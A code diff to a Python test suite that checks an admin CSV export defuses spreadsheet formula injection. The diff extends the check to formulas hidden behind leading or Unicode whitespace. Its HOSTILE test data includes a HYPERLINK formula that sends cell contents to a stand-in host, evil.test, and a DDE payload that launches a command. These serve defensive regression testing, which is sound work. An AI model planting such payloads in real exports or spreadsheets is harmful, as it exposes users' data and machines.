@@ -27,7 +27,7 @@ from .test_chat_api import _everyday, _h, _server
 ADMIN_JS = (
     Path(__file__).resolve().parents[2] / "src" / "bastion" / "server" / "static" / "admin.js"
 )
-FORMULA = ("=", "+", "-", "@", "\t", "\r")
+FORMULA = ("=", "+", "-", "@")
 HOSTILE = [
     '=HYPERLINK("http://evil.test/?"&A1,"open")',
     "+cmd|' /C calc'!A0",
@@ -35,6 +35,8 @@ HOSTILE = [
     "@SUM(1+1)",
     '=1,2"3',
     "a=b",
+    " =1+1",
+    "\u00a0\u3000@SUM(1)",
 ]
 
 
@@ -80,14 +82,19 @@ def _export(page: Page, records: list[dict[str, Any]]) -> str:
     return text
 
 
+def _formula_like(cell: str) -> bool:
+    """What a spreadsheet may run: a formula character first, or after blanks it trims."""
+    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(FORMULA)
+
+
 def _cells_are_inert(rows: list[list[str]]) -> None:
     for row in rows:
         for cell in row:
-            assert not cell.startswith(FORMULA), (cell, row)
+            assert not _formula_like(cell), (cell, row)
 
 
 def _as_written(cell: str) -> str:
-    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA) else cell
+    return cell[1:] if cell.startswith("'") and _formula_like(cell[1:]) else cell
 
 
 def test_records_of_principals_named_like_formulas_export_inert(site: str, page: Page) -> None:
@@ -129,6 +136,11 @@ def test_records_of_principals_named_like_formulas_export_inert(site: str, page:
         "\t=1+1",
         "\r=1+1",
         "\n=1+1",
+        " =1+1",
+        "   -1",
+        "\u00a0+1",
+        "\u3000=1",
+        " \t=1",
         '"=1+1',
         "a\r\n=1+1,b",
         "x\n@SUM(A1)\r\n-1",
